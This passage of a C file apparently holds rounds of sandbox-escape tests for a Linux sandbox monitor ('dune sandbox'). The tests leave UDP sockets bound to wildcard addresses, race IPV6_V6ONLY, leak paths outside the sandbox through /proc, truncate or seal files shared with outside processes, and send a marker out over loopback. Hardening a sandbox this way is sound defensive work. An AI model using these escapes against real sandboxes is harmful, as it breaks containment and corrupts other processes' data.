	accept_from_outside(s, what);
	contained();
}

/* With --allow-net ADDR:9 for each ADDR (connect and send to it; no bind rule for the
 * wildcard): a UDP socket is connected to ADDR:9. Linux binds an unbound datagram
 * socket to the wildcard address and a port *before* it routes the destination
 * (inet_dgram_connect: inet_autobind, then ip4_datagram_connect); when the route fails
 * (ENETUNREACH for an address with no route, EACCES for a broadcast address without
 * SO_BROADCAST) connect returns the error and the socket stays bound to 0.0.0.0:PORT,
 * where any process can send to it. The monitor checks the destination only (a UDP
 * connect "takes datagrams from the peer alone"). The test sends to 127.0.0.1:PORT
 * from outside. */
static void udp_failed_connect(int argc, char **argv) {
	for (int i = 2; i < argc; i++) {
		struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9) };
		if (inet_pton(AF_INET, argv[i], &to.sin_addr) != 1)
			exit(2);
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		if (s < 0)
			exit(2);
		int r = connect(s, (struct sockaddr *)&to, sizeof to);
		char a[64] = "";
		int p = port_of(s, a, sizeof a);
		printf("connect(%s:9): %s; getsockname %s:%d\n", argv[i], r ? strerror(errno) : "connected", a, p);
		if (!r || p <= 0 || strcmp(a, "0.0.0.0")) {
			close(s);
			continue;
		}
		printf("udp-bound %s %d\n", a, p);
		fflush(stdout);
		struct pollfd pf = { .fd = s, .events = POLLIN };
		if (poll(&pf, 1, 5000) == 1) {
			char got[64] = "";
			struct sockaddr_in from;
			socklen_t l = sizeof from;
			ssize_t k = recvfrom(s, got, sizeof got - 1, 0, (struct sockaddr *)&from, &l);
			got[k > 0 ? k : 0] = 0;
			got[strcspn(got, "\n")] = 0;
			char peer[64] = "";
			inet_ntop(AF_INET, &from.sin_addr, peer, sizeof peer);
			escaped("after a failed connect to %s:9 the UDP socket is bound to %s:%d (no rule allows binding the wildcard); a datagram from %s:%d outside arrived: \"%s\"", argv[i], a, p, peer, ntohs(from.sin_port), got);
		}
		escaped("after a failed connect to %s:9 the UDP socket is bound to %s:%d, which no bind rule allows", argv[i], a, p);
	}
	contained();
}

/* Waits up to 5 s for a datagram on `s` (bound to ADDR:PORT with no rule for it). */
static void wildcard_datagram(int s, const char *how, const char *a, int p) {
	struct pollfd pf = { .fd = s, .events = POLLIN };
	if (poll(&pf, 1, 5000) == 1) {
		char got[64] = "";
		struct sockaddr_in6 from;
		socklen_t l = sizeof from;
		ssize_t k = recvfrom(s, got, sizeof got - 1, 0, (struct sockaddr *)&from, &l);
		got[k > 0 ? k : 0] = 0;
		got[strcspn(got, "\n")] = 0;
		char peer[64] = "";
		if (from.sin6_family == AF_INET)
			inet_ntop(AF_INET, &((struct sockaddr_in *)&from)->sin_addr, peer, sizeof peer);
		else
			inet_ntop(AF_INET6, &from.sin6_addr, peer, sizeof peer);
		escaped("%s left the UDP socket bound to %s:%d (no rule allows binding the wildcard); a datagram from %s outside arrived: \"%s\"", how, a, p, peer, got);
	}
	escaped("%s left the UDP socket bound to %s:%d, which no bind rule allows", how, a, p);
}

/* With --allow-net 127.0.0.1:9 only (the host's network namespace, no bind rule for
 * the wildcard). An unbound, unconnected UDP socket; a send that names no address
 * (write, send, sendmsg without msg_name) fails with EDESTADDRREQ, but Linux binds
 * the socket first (inet_send_prepare: inet_autobind) to 0.0.0.0 and a port. The
 * monitor checks the implicit bind only for sendto/sendmsg with an address. The test
 * sends a datagram to 127.0.0.1:PORT from outside. */
static void udp_send_no_address(void) {
	const char *hows[] = { "write()", "send() with no address", "sendmsg() with no msg_name" };
	int first = -1, fport = 0;
	char faddr[64] = "";
	for (int k = 0; k < 3; k++) {
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		if (s < 0)
			exit(2);
		ssize_t r;
		if (k == 0) {
			r = write(s, "x", 1);
		} else if (k == 1) {
			r = send(s, "x", 1, 0);
		} else {
			struct iovec iov = { .iov_base = "x", .iov_len = 1 };
			struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1 };
			r = sendmsg(s, &mh, 0);
		}
		char a[64] = "";
		int p = port_of(s, a, sizeof a);
		printf("%s on an unbound UDP socket: %s; getsockname %s:%d\n", hows[k], r < 0 ? strerror(errno) : "sent", a, p);
		if (first < 0 && p > 0 && !strcmp(a, "0.0.0.0")) {
			first = k;
			fport = p;
			snprintf(faddr, sizeof faddr, "%s", a);
			dup2(s, 100);
		}
		close(s);
	}
	if (first >= 0) {
		printf("udp-bound %s %d\n", faddr, fport);
		fflush(stdout);
		wildcard_datagram(100, hows[first], faddr, fport);
	}
	contained();
}

/* Lines of `file` that mention `needle`: the first is copied to `first`. */
static int lines_with(const char *file, const char *needle, char *first, size_t n) {
	FILE *f = fopen(file, "r");
	if (!f) {
		printf("open %s: %s\n", file, strerror(errno));
		return 0;
	}
	char line[1024];
	int hits = 0;
	while (fgets(line, sizeof line, f)) {
		if (strstr(line, needle)) {
			if (!hits++) {
				line[strcspn(line, "\n")] = 0;
				snprintf(first, n, "%s", line);
			}
		}
	}
	fclose(f);
	printf("%s: %d lines mention %s\n", file, hits, needle);
	return hits;
}

/* DIR is outside every tree of the policy (the isolated builtin policy: the attack
 * program's directory, RO and RW). The monitor hides it: stat of anything below it is
 * EACCES whether it exists or not. /proc/self is one of the trees every policy may read
 * (RUNTIME_READ), and below it mountinfo lists every mount point of the machine and
 * net/unix every bound unix socket's path in the network namespace (the host's, with
 * any network rule): the test mounts a tmpfs at DIR/mnt and listens on DIR/agent.sock. */
static void proc_self_outside(const char *dir) {
	char p[512];
	struct stat st;
	snprintf(p, sizeof p, "%s/agent.sock", dir);
	int r1 = stat(p, &st), e1 = errno;
	snprintf(p, sizeof p, "%s/mnt", dir);
	int r2 = stat(p, &st), e2 = errno;
	snprintf(p, sizeof p, "%s/absent", dir);
	int r3 = stat(p, &st), e3 = errno;
	printf("stat DIR/agent.sock: %s; DIR/mnt: %s; DIR/absent: %s\n", r1 ? strerror(e1) : "ok", r2 ? strerror(e2) : "ok", r3 ? strerror(e3) : "ok");
	if (!r1 || !r2)
		printf("the monitor let stat of a path outside every tree through\n");
	char l1[1024] = "", l2[1024] = "";
	int m = lines_with("/proc/self/mountinfo", dir, l1, sizeof l1);
	int u = lines_with("/proc/self/net/unix", dir, l2, sizeof l2);
	if (m || u)
		escaped("paths outside every tree, which stat hides (%s), read from /proc/self: %s%s%s%s%s", strerror(e1), m ? "mountinfo: " : "", m ? l1 : "", m && u ? "; " : "", u ? "net/unix: " : "", u ? l2 : "");
	contained();
}

/* Stdin is the read end of a pipe whose open file a process outside shares (the test
 * keeps it). The monitor refuses O_NONBLOCK changes only on the outer terminal (and
 * O_ASYNC, F_SETOWN, F_SETSIG on every file the sandbox started with): the outside
 * process's reads then fail with EAGAIN instead of waiting. The test checks its end. */
static void shared_file_nonblock(void) {
	int before = fcntl(0, F_GETFL);
	int on = 1;
	int r1 = ioctl(0, FIONBIO, &on);
	int e1 = errno;
	int r2 = fcntl(0, F_SETFL, before | O_NONBLOCK);
	int e2 = errno;
	int after = fcntl(0, F_GETFL);
	printf("stdin flags %#o; ioctl(FIONBIO, 1): %s; fcntl(F_SETFL, O_NONBLOCK): %s; now %#o\n", before, r1 ? strerror(e1) : "ok", r2 ? strerror(e2) : "ok", after);
	fflush(stdout);
	/* Only the outside sees what its open file became. */
	contained();
}

/* ---- round 4 ------------------------------------------------------------------------- */

/* With --allow-net 127.0.0.1:9 only (the host's network namespace, no bind rule for
 * the wildcard). Linux binds an unbound UDP socket to 0.0.0.0 and a port in
 * inet_send_prepare, before udp_sendmsg looks at anything; the round-3 fix undoes that
 * binding only when the send then failed with EDESTADDRREQ. udp_sendmsg fails earlier,
 * with other errors, for a length above 65535 (EMSGSIZE) and for MSG_OOB (EOPNOTSUPP):
 * the binding stays. The test sends a datagram to 127.0.0.1:PORT from outside. */
static void udp_send_other_error(void) {
	const char *hows[] = { "send(MSG_OOB) with no address (EOPNOTSUPP)", "write() of 70000 bytes (EMSGSIZE)", "sendmsg(MSG_OOB) with no msg_name" };
	static char big[70000];
	int first = -1, fport = 0;
	char faddr[64] = "";
	for (int k = 0; k < 3; k++) {
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		if (s < 0)
			exit(2);
		ssize_t r;
		if (k == 0) {
			r = send(s, "x", 1, MSG_OOB);
		} else if (k == 1) {
			r = write(s, big, sizeof big);
		} else {
			struct iovec iov = { .iov_base = "x", .iov_len = 1 };
			struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1 };
			r = sendmsg(s, &mh, MSG_OOB);
		}
		char a[64] = "";
		int p = port_of(s, a, sizeof a);
		printf("%s on an unbound UDP socket: %s; getsockname %s:%d\n", hows[k], r < 0 ? strerror(errno) : "sent", a, p);
		if (first < 0 && p > 0 && !strcmp(a, "0.0.0.0")) {
			first = k;
			fport = p;
			snprintf(faddr, sizeof faddr, "%s", a);
			dup2(s, 100);
		}
		close(s);
	}
	if (first >= 0) {
		printf("udp-bound %s %d\n", faddr, fport);
		fflush(stdout);
		wildcard_datagram(100, hows[first], faddr, fport);
	}
	contained();
}

/* With --allow-net ::/0 only (IPv6: binding [::] and a kernel-picked port is allowed;
 * nothing allows IPv4's wildcard). Round 3 made an IPv6 socket IPv6-only before an
 * explicit bind of [::] and before the implicit binds the monitor checks (listen, a send
 * with an address). An unbound IPv6 UDP socket is also autobound by a send with no
 * address (EDESTADDRREQ) and by a connect that fails after the autobind: the monitor's
 * undo skips both (the implicit IPv6 bind is allowed), and the socket stays on [::]
 * dual stack (IPV6_V6ONLY 0), where IPv4 datagrams from anyone reach it. The test sends
 * one to 127.0.0.1:PORT (IPv4) from outside. */
static void v6_autobind_dual_stack(void) {
	const char *hows[] = { "write() with no address (EDESTADDRREQ)", "send(MSG_OOB) with no address", "connect([2001:db8::1]:9) (no route)" };
	int first = -1, fport = 0;
	char faddr[64] = "";
	for (int k = 0; k < 3; k++) {
		int s = socket(AF_INET6, SOCK_DGRAM, 0);
		if (s < 0)
			exit(2);
		int r;
		if (k == 0) {
			r = write(s, "x", 1);
		} else if (k == 1) {
			r = send(s, "x", 1, MSG_OOB);
		} else {
			struct sockaddr_in6 to = { .sin6_family = AF_INET6, .sin6_port = htons(9) };
			inet_pton(AF_INET6, "2001:db8::1", &to.sin6_addr);
			r = connect(s, (struct sockaddr *)&to, sizeof to);
		}
		int e = errno;
		char a[64] = "";
		int p = port_of(s, a, sizeof a);
		int only = -1;
		socklen_t ol = sizeof only;
		getsockopt(s, IPPROTO_IPV6, IPV6_V6ONLY, &only, &ol);
		printf("%s on an unbound IPv6 UDP socket: %s; getsockname [%s]:%d, IPV6_V6ONLY %d\n", hows[k], r < 0 ? strerror(e) : "ok", a, p, only);
		if (first < 0 && p > 0 && !strcmp(a, "::") && only == 0) {
			first = k;
			fport = p;
			snprintf(faddr, sizeof faddr, "%s", a);
			dup2(s, 100);
		}
		close(s);
	}
	if (first >= 0) {
		printf("udp-bound %s %d\n", faddr, fport);
		fflush(stdout);
		struct pollfd pf = { .fd = 100, .events = POLLIN };
		if (poll(&pf, 1, 5000) == 1) {
			char got[64] = "";
			struct sockaddr_in6 from;
			socklen_t l = sizeof from;
			ssize_t k = recvfrom(100, got, sizeof got - 1, 0, (struct sockaddr *)&from, &l);
			got[k > 0 ? k : 0] = 0;
			got[strcspn(got, "\n")] = 0;
			char peer[64] = "";
			inet_ntop(AF_INET6, &from.sin6_addr, peer, sizeof peer);
			escaped("%s left the IPv6 UDP socket bound to [%s]:%d dual stack (only ::/0 is allowed); an IPv4 datagram from %s outside arrived: \"%s\"", hows[first], faddr, fport, peer, got);
		}
		escaped("%s left the IPv6 UDP socket bound to [%s]:%d dual stack, where IPv4 reaches it (no rule allows IPv4)", hows[first], faddr, fport);
	}
	contained();
}

/* Stdin is a unix socket whose open file a process outside shares (the test keeps the
 * same open file, and the peer end). Round 3 refused O_NONBLOCK on inherited sockets,
 * but socket options live on the socket that open file holds: SO_RCVTIMEO and
 * SO_SNDTIMEO are in the allowed list and setsockopt checks no inherited file. The
 * outside process's blocking reads then fail with EAGAIN after a millisecond. The test
 * checks its end. */
static void shared_socket_timeout(void) {
	struct timeval tv = { 0, 1000 };
	int r1 = setsockopt(0, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	int e1 = errno;
	int r2 = setsockopt(0, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
	int e2 = errno;
	struct timeval got = { 0, 0 };
	socklen_t l = sizeof got;
	getsockopt(0, SOL_SOCKET, SO_RCVTIMEO, &got, &l);
	printf("stdin setsockopt(SO_RCVTIMEO, 1 ms): %s; setsockopt(SO_SNDTIMEO, 1 ms): %s; SO_RCVTIMEO now %ld.%06ld s\n", r1 ? strerror(e1) : "ok", r2 ? strerror(e2) : "ok", (long)got.tv_sec, (long)got.tv_usec);
	fflush(stdout);
	/* Only the outside sees what its socket became. */
	contained();
}

/* Stdin is the write end of a pipe whose open file a process outside shares (as a
 * shell's `{ dune sandbox ...; writer; } | reader` shares stdout; the test keeps the same
 * open file and the read end). F_SETFL checks only O_NONBLOCK and O_ASYNC changes on
 * files the sandbox was started with; O_DIRECT on a pipe is Linux's packet mode, a
 * property of the open file: every later write through it, the outside writer's too,
 * becomes one packet, and a read shorter than a packet throws the rest away. The test
 * writes through its end and reads. */
static void shared_pipe_packet(void) {
	int before = fcntl(0, F_GETFL);
	int r = fcntl(0, F_SETFL, before | O_DIRECT);
	int e = errno;
	int after = fcntl(0, F_GETFL);
	printf("stdin flags %#o; fcntl(F_SETFL, O_DIRECT): %s; now %#o\n", before, r ? strerror(e) : "ok", after);
	fflush(stdout);
	/* Only the outside sees what its open file became. */
	contained();
}

/* With --allow-net ::/0 only. Round 3 refuses setsockopt(IPV6_V6ONLY, 0) by looking at
 * the copied value, and makes an IPv6 socket IPv6-only (setsockopt on its duplicate)
 * just before it binds [::]. A null value with length 4 copies nothing, so the check
 * passes, and Linux (do_ipv6_setsockopt: a null optval is val 0) turns IPV6_V6ONLY off.
 * A sibling does that on the socket's number in a loop while this thread binds [::]:0
 * again and again; whenever the sibling runs between the monitor's setsockopt and its
 * bind, the socket is bound dual stack. The test sends an IPv4 datagram to it. */
static volatile int v6race_stop;
static void *v6only_clearer(void *arg) {
	(void)arg;
	while (!v6race_stop)
		syscall(SYS_setsockopt, 60, IPPROTO_IPV6, IPV6_V6ONLY, NULL, 4);
	return NULL;
}

static void v6only_null_race(void) {
	int s = socket(AF_INET6, SOCK_DGRAM, 0);
	int only = 1;
	socklen_t ol = sizeof only;
	long r = syscall(SYS_setsockopt, s, IPPROTO_IPV6, IPV6_V6ONLY, NULL, 4);
	getsockopt(s, IPPROTO_IPV6, IPV6_V6ONLY, &only, &ol);
	printf("setsockopt(IPV6_V6ONLY, NULL, 4): %s; IPV6_V6ONLY now %d\n", r ? strerror(errno) : "ok", only);
	close(s);
	pthread_t t;
	pthread_create(&t, NULL, v6only_clearer, NULL);
	int tries = 0, won = 0, port = 0;
	for (double end = now() + 10; now() < end && !won; tries++) {
		s = socket(AF_INET6, SOCK_DGRAM, 0);
		dup2(s, 60);
		close(s);
		struct sockaddr_in6 b = { .sin6_family = AF_INET6, .sin6_addr = IN6ADDR_ANY_INIT };
		if (bind(60, (struct sockaddr *)&b, sizeof b) == 0) {
			only = -1;
			ol = sizeof only;
			getsockopt(60, IPPROTO_IPV6, IPV6_V6ONLY, &only, &ol);
			if (only == 0) {
				char a[64] = "";
				port = port_of(60, a, sizeof a);
				dup2(60, 100);
				won = 1;
			}
		}
		close(60);
	}
	v6race_stop = 1;
	pthread_join(t, NULL);
	printf("%d binds of [::]:0\n", tries);
	if (won) {
		printf("udp-bound :: %d\n", port);
		fflush(stdout);
		struct pollfd pf = { .fd = 100, .events = POLLIN };
		if (poll(&pf, 1, 5000) == 1) {
			char got[64] = "";
			struct sockaddr_in6 from;
			socklen_t l = sizeof from;
			ssize_t k = recvfrom(100, got, sizeof got - 1, 0, (struct sockaddr *)&from, &l);
			got[k > 0 ? k : 0] = 0;
			got[strcspn(got, "\n")] = 0;
			char peer[64] = "";
			inet_ntop(AF_INET6, &from.sin6_addr, peer, sizeof peer);
			escaped("bind #%d of [::]:0 left the IPv6 UDP socket bound to [::]:%d dual stack (only ::/0 is allowed); an IPv4 datagram from %s outside arrived: \"%s\"", tries, port, peer, got);
		}
		escaped("bind #%d of [::]:0 left the IPv6 UDP socket bound to [::]:%d dual stack, where IPv4 reaches it (no rule allows IPv4)", tries, port);
	}
	contained();
}

/* Round 0 had /proc/self/fd list the monitor's descriptors; the runtime now filters
 * them out of getdents64 on the calling process's own /proc/PID/fd (and fdinfo, and its
 * threads'). Another sandbox process is as readable (its /proc/PID is the sandbox's): a
 * forked child lists its parent's fd directory, where the parent's monitor's and
 * runtime's descriptors (above the program's RLIMIT_NOFILE) all show. */
static int list_high(const char *dir, rlim_t limit, int *first) {
	DIR *d = opendir(dir);
	if (!d) {
		printf("opendir(%s): %s\n", dir, strerror(errno));
		return 0;
	}
	struct dirent *e;
	int n = 0;
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		long fd = atol(e->d_name);
		if ((rlim_t)fd >= limit) {
			if (!n++)
				*first = (int)fd;
		}
	}
	closedir(d);
	printf("%s: %d descriptors at or above %lu (the program's limit)\n", dir, n, (unsigned long)limit);
	return n;
}

static void proc_fd_other_process(void) {
	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	int own_first = -1;
	if (list_high("/proc/self/fd", rl.rlim_cur, &own_first))
		escaped("/proc/self/fd lists descriptor %d above the program's limit", own_first);
	pid_t parent = getpid();
	int go[2];
	if (pipe(go))
		exit(2);
	pid_t c = fork();
	if (c == 0) {
		char dir[64];
		int first = -1, n;
		snprintf(dir, sizeof dir, "/proc/%d/fd", (int)parent);
		n = list_high(dir, rl.rlim_cur, &first);
		snprintf(dir, sizeof dir, "/proc/%d/task/%d/fd", (int)parent, (int)parent);
		int first2 = -1;
		int n2 = list_high(dir, rl.rlim_cur, &first2);
		_exit(n || n2 ? (first >= 0 ? first : first2) % 250 + 1 : 0);
	}
	int st = 0;
	waitpid(c, &st, 0);
	if (WIFEXITED(st) && WEXITSTATUS(st) != 0)
		escaped("a forked child listed the parent's /proc/%d/fd: descriptors the program cannot use (the monitor's and the runtime's), above its limit %lu", (int)parent, (unsigned long)rl.rlim_cur);
	contained();
}

/* ---- round 5 ------------------------------------------------------------------------- */

/* Waits up to `ms` for a datagram on `s`; fills `from` (its text) and `got`. */
static int datagram_from(int s, int ms, char *from, size_t fn, char *got, size_t gn) {
	struct pollfd pf = { .fd = s, .events = POLLIN };
	if (poll(&pf, 1, ms) != 1)
		return 0;
	struct sockaddr_in6 a;
	socklen_t l = sizeof a;
	memset(&a, 0, sizeof a);
	ssize_t k = recvfrom(s, got, gn - 1, MSG_DONTWAIT, (struct sockaddr *)&a, &l);
	if (k < 0)
		return 0;
	got[k] = 0;
	got[strcspn(got, "\n")] = 0;
	char ip[64] = "";
	if (a.sin6_family == AF_INET)
		inet_ntop(AF_INET, &((struct sockaddr_in *)&a)->sin_addr, ip, sizeof ip);
	else
		inet_ntop(AF_INET6, &a.sin6_addr, ip, sizeof ip);
	snprintf(from, fn, a.sin6_family == AF_INET6 ? "[%s]:%d" : "%s:%d", ip, ntohs(a.sin6_port));
	return 1;
}

/* With --allow-net 127.0.0.1:9 only (the host's network namespace; no rule to bind
 * anything, none for any other peer). Round 4 connects every new datagram socket to a
 * "black hole", 127.0.0.1:0 (or [::1]:0), so that nothing can leave it bound to the
 * wildcard address: Linux binds it to loopback and a port it picks, and the monitor
 * shows it unbound and unconnected. But a connected UDP socket's peer port of 0 is no
 * port to Linux: compute_score (udp.c, udp_ipv6.c) checks the peer port only when it
 * is not 0. So the socket takes datagrams from every port of its peer address, that is
 * from any process on the machine that sends from loopback. The attack prints the
 * sockets' inode numbers; the test finds their ports in its /proc/net/udp and udp6 (as
 * any process outside can, `ss -uan`) and sends to them. */
static void black_hole_any_port(void) {
	int s[2] = { socket(AF_INET, SOCK_DGRAM, 0), socket(AF_INET6, SOCK_DGRAM, 0) };
	const char *fam[2] = { "IPv4", "IPv6" };
	unsigned long ino[2] = { 0, 0 };
	for (int i = 0; i < 2; i++) {
		if (s[i] < 0) {
			printf("%s socket: %s\n", fam[i], strerror(errno));
			continue;
		}
		struct stat st;
		if (fstat(s[i], &st) == 0)
			ino[i] = (unsigned long)st.st_ino;
		char a[64] = "";
		int p = port_of(s[i], a, sizeof a);
		struct sockaddr_storage peer;
		socklen_t pl = sizeof peer;
		int pr = getpeername(s[i], (struct sockaddr *)&peer, &pl);
		printf("%s UDP socket: getsockname %s port %d; getpeername %s; inode %lu\n", fam[i], a, p, pr ? strerror(errno) : "connected", ino[i]);
	}
	printf("black-hole %lu %lu\n", ino[0], ino[1]);
	fflush(stdout);
	char report[512] = "";
	for (int i = 0; i < 2; i++) {
		char from[96] = "", got[96] = "";
		if (s[i] >= 0 && datagram_from(s[i], i == 0 ? 8000 : 1000, from, sizeof from, got, sizeof got)) {
			char a[64] = "";
			int p = port_of(s[i], a, sizeof a);
			snprintf(report + strlen(report), sizeof report - strlen(report), "%sthe %s one (getsockname %s port %d) took a datagram from %s outside: \"%s\"", report[0] ? "; " : "", fam[i], a, p, from, got);
		}
	}
	if (report[0])
		escaped("new UDP sockets the program never bound or connected, with no rule for binding or for those peers: %s", report);
	contained();
}

/* With --allow-net ::/0 (binding [::] and a kernel-picked port is allowed, IPv6 only),
 * 192.0.2.1:9 (TEST-NET-1: no route in the lane) and 127.0.0.1:9; nothing allows
 * IPv4's wildcard. Round 4 makes IPv6 sockets IPv6-only from birth, and dual stack
 * again (setsockopt(IPV6_V6ONLY, 0) on the monitor's duplicate) just before a connect
 * to a mapped address, when the socket is unbound. Linux autobinds the socket ([::],
 * dual stack now) before it routes the connect: when the connect then fails, nothing
 * makes it IPv6-only again, and it stays on [::] and a port dual stack. So too after a
 * connect that worked: connect(AF_UNSPEC) is allowed (::/0 allows the implicit bind of
 * [::]) and unbinds it, and a write with no address autobinds it dual stack. The test
 * sends an IPv4 datagram to 127.0.0.1:PORT. */
static void mapped_connect_dual_stack(void) {
	const char *hows[] = { "connect([::ffff:192.0.2.1]:9) (no route)", "connect([::ffff:127.0.0.1]:9), connect(AF_UNSPEC), write()" };
	int first = -1, fport = 0;
	char faddr[64] = "";
	for (int k = 0; k < 2; k++) {
		int s = socket(AF_INET6, SOCK_DGRAM, 0);
		if (s < 0)
			exit(2);
		int only0 = -1;
		socklen_t ol = sizeof only0;
		getsockopt(s, IPPROTO_IPV6, IPV6_V6ONLY, &only0, &ol);
		struct sockaddr_in6 to = { .sin6_family = AF_INET6, .sin6_port = htons(9) };
		inet_pton(AF_INET6, k == 0 ? "::ffff:192.0.2.1" : "::ffff:127.0.0.1", &to.sin6_addr);
		int r = connect(s, (struct sockaddr *)&to, sizeof to);
		int e = errno;
		char what[160];
		snprintf(what, sizeof what, "connect: %s", r ? strerror(e) : "connected");
		if (k == 1 && r == 0) {
			struct sockaddr un = { .sa_family = AF_UNSPEC };
			int r2 = connect(s, &un, sizeof un);
			int e2 = errno;
			ssize_t w = write(s, "x", 1);
			int e3 = errno;
			snprintf(what + strlen(what), sizeof what - strlen(what), "; connect(AF_UNSPEC): %s; write: %s", r2 ? strerror(e2) : "ok", w < 0 ? strerror(e3) : "sent");
		}
		char a[64] = "";
		int p = port_of(s, a, sizeof a);
		int only = -1;
		ol = sizeof only;
		getsockopt(s, IPPROTO_IPV6, IPV6_V6ONLY, &only, &ol);
		printf("%s on a new IPv6 UDP socket (IPV6_V6ONLY %d): %s; getsockname [%s]:%d, IPV6_V6ONLY %d\n", hows[k], only0, what, a, p, only);
		if (first < 0 && p > 0 && !strcmp(a, "::") && only == 0) {
			first = k;
			fport = p;
			snprintf(faddr, sizeof faddr, "%s", a);
			dup2(s, 100);
		}
		close(s);
	}
	if (first >= 0) {
		printf("udp-bound %s %d\n", faddr, fport);
		fflush(stdout);
		char from[96] = "", got[96] = "";
		if (datagram_from(100, 5000, from, sizeof from, got, sizeof got))
			escaped("%s left the IPv6 UDP socket bound to [%s]:%d dual stack (no rule allows IPv4's wildcard); an IPv4 datagram from %s outside arrived: \"%s\"", hows[first], faddr, fport, from, got);
		escaped("%s left the IPv6 UDP socket bound to [%s]:%d dual stack, where IPv4 reaches it (no rule allows IPv4's wildcard)", hows[first], faddr, fport);
	}
	contained();
}

/* Stdin is a file in the read-only tree that a process outside opened for appending
 * (a shell's `dune sandbox ... >> log` gives it as stdout; the test passes it as stdin
 * so that its stdout stays free) and wrote a line to first. Round 4 keeps the status flags of
 * open files the sandbox was started with (O_APPEND cannot be turned off, so writes
 * only add), but ftruncate and fallocate are forwarded on any descriptor: they erase
 * what is already there. The test checks the file. */
static void inherited_append_truncate(void) {
	int fl = fcntl(0, F_GETFL);
	int r0 = fcntl(0, F_SETFL, fl & ~O_APPEND);
	int e0 = errno;
	struct stat st;
	fstat(0, &st);
	int r1 = fallocate(0, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, st.st_size);
	int e1 = errno;
	int r2 = ftruncate(0, 0);
	int e2 = errno;
	ssize_t w = write(0, "sandbox\n", 8);
	struct stat after;
	fstat(0, &after);
	printf("stdin flags %#o (size %ld); F_SETFL without O_APPEND: %s; fallocate(PUNCH_HOLE): %s; ftruncate(0): %s; write: %zd; size now %ld\n", fl, (long)st.st_size, r0 ? strerror(e0) : "ok", r1 ? strerror(e1) : "ok", r2 ? strerror(e2) : "ok", w, (long)after.st_size);
	if (!r1 || !r2)
		escaped("the appended-to file outside the writable trees (stdin) was %s%s%s: what the process outside wrote there is gone (size %ld -> %ld)", !r1 ? "hole-punched" : "", !r1 && !r2 ? " and " : "", !r2 ? "truncated" : "", (long)st.st_size, (long)after.st_size);
	contained();
}

/* Isolated policy: EXE is the monitor's executable (`dune`); its directory is outside
 * every tree, and stat and open say nothing of it. /proc/self is read by every policy,
 * and round 4 turned its entries into an allowlist that keeps maps (and smaps,
 * numa_maps): the process's mappings are the monitor's too, and each file mapped is
 * named there, the monitor's executable among them. */
static void proc_maps_outside(const char *exe) {
	char dir[512];
	snprintf(dir, sizeof dir, "%s", exe);
	char *slash = strrchr(dir, '/');
	if (slash)
		*slash = 0;
	struct stat st;
	int sr = stat(dir, &st);
	int se = errno;
	int xr = stat(exe, &st);
	int xe = errno;
	printf("stat(%s): %s; stat(%s): %s\n", dir, sr ? strerror(se) : "ok", exe, xr ? strerror(xe) : "ok");
	const char *files[] = { "/proc/self/maps", "/proc/self/smaps", "/proc/self/numa_maps" };
	for (int i = 0; i < 3; i++) {
		FILE *f = fopen(files[i], "r");
		if (!f) {
			printf("open %s: %s\n", files[i], strerror(errno));
			continue;
		}
		char line[1024], first[1024] = "";
		int n = 0;
		while (fgets(line, sizeof line, f)) {
			line[strcspn(line, "\n")] = 0;
			char *at = strstr(line, exe);
			/* The executable itself (a line ends with its path; numa_maps: file=PATH and more). */
			if (at && (at[strlen(exe)] == 0 || at[strlen(exe)] == ' ') && !n++)
				snprintf(first, sizeof first, "%s", line);
		}
		fclose(f);
		printf("%s: %d lines name %s%s%s\n", files[i], n, exe, n ? ": " : "", first);
		if (n && sr && xr)
			escaped("%s names the monitor's executable %s (%d lines), which stat refuses (%s): a file outside every tree: \"%s\"", files[i], exe, n, strerror(xe), first);
	}
	contained();
}

/* Stdin is one end of a unix socket pair whose open file a process outside shares (the
 * test keeps the same open file and the peer end). Round 4 refuses status flag changes
 * (O_NONBLOCK) and every setsockopt on files the sandbox was started with, their
 * state being the outside process's too; shutdown() changes the socket itself for
 * every holder and is forwarded as it is. The test then reads (EOF instead of waiting)
 * and writes (EPIPE; SIGPIPE for a process that does not ignore it) through its end. */
static void shared_socket_shutdown(void) {
	int r = shutdown(0, SHUT_RDWR);
	int e = errno;
	printf("stdin shutdown(SHUT_RDWR): %s\n", r ? strerror(e) : "ok");
	fflush(stdout);
	/* Only the outside sees what its socket became. */
	contained();
}

/* Stdin is a memfd a process outside made (MFD_ALLOW_SEALING) and still writes to, with
 * the same open file (as a memfd handed over to be read). Seals are the file's, for
 * every holder; F_ADD_SEALS is on the fcntl allowlist and forwarded on any descriptor,
 * the files the sandbox was started with included. The test writes after. */
static void shared_memfd_seal(void) {
	int before = fcntl(0, F_GET_SEALS);
	int r = fcntl(0, F_ADD_SEALS, F_SEAL_WRITE | F_SEAL_GROW | F_SEAL_SHRINK | F_SEAL_SEAL);
	int e = errno;
	int after = fcntl(0, F_GET_SEALS);
	printf("stdin seals %#x; F_ADD_SEALS(WRITE|GROW|SHRINK|SEAL): %s; seals now %#x\n", before, r ? strerror(e) : "ok", after);
	fflush(stdout);
	/* Only the outside sees what its file became. */
	contained();
}

/* With --allow-net 127.0.0.1:9 only. Every new datagram socket is connected to the black
 * hole, 127.0.0.1:0, and Linux's udp_sendmsg refuses port 0 only for a destination
 * given with the send: write(), send() and sendmsg() with no address go to the
 * connected peer, port 0 or not. The monitor forwards sends with no address as they
 * are (the black hole was to make them harmless). So the program's bytes leave on the
 * loopback interface to an address and port no rule names, where any process outside
 * that captures (tcpdump) reads them; the test captures loopback. */
static void black_hole_send(void) {
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0)
		exit(2);
	const char *msg = "DUNE-BLACK-HOLE-MARKER: a secret the program sends out";
	ssize_t r1 = write(s, msg, strlen(msg));
	int e1 = errno;
	ssize_t r2 = send(s, msg, strlen(msg), 0);
	int e2 = errno;
	printf("write() with no address on a new UDP socket: %s; send(): %s\n", r1 < 0 ? strerror(e1) : "sent", r2 < 0 ? strerror(e2) : "sent");
	fflush(stdout);
	/* Only a capture outside sees where it went; the test looks at who holds the
